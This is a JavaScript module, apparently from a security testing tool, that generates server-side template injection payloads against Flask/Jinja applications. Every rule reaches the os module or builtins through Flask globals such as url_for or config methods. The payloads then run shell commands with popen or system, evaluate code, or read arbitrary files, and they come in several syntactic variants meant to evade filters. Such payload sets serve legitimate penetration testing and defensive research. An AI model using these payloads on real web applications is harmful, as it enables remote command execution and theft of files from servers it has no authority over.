// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Flask adds globals of its own to Jinja's. */
export const flaskGlobals = templateGenerator({
  name: 'flask-globals',
  engines: ['flask'],
  rules: {
    start: [
      '{before}{o}{s}{function}.__globals__{os}.popen({q}{command}{q}).read(){s}{c}{after}',
      '{o} {function}.__globals__.__builtins__.__import__({q}os{q}).popen({q}{command}{q}).read() {c}',
      '{o}{function}.__globals__.__builtins__.open({q}{file}{q}).read(){c}',
      '{l}% set o = {function}.__globals__{os} %{r}{o} o.system({q}{command}{q}) {c}',
      '{l}% with a = {function}.__globals__{os}.popen({q}{command}{q}).read() %{r}{o} a {c}{l}% endwith %{r}',
      '{l}% if {function}.__globals__{os}.popen({q}{command}{q}).read() %{r}x{l}% endif %{r}',
      '{o} {function}.__globals__.__builtins__.eval("__import__({q}os{q}).popen({q}{command}{q}).read()") {c}',
      '{l}% print({function}.__globals__{os}.popen({q}{command}{q}).read()) %{r}',
    ],
    q: ["'"],
    os: ['.os', "['os']", '.get("os")', '["os"]'],
    function: [
      'url_for',
      'get_flashed_messages',
      'config.__class__.__init__',
      'request.application',
      'request.__class__.application',
      'config.from_envvar',
      'session.__class__.__init__',
      'g.pop',
      'g.get',
      'request._load_form_data',
      'config.items',
      'request.environ.__class__.__init__',
    ],
  },
});
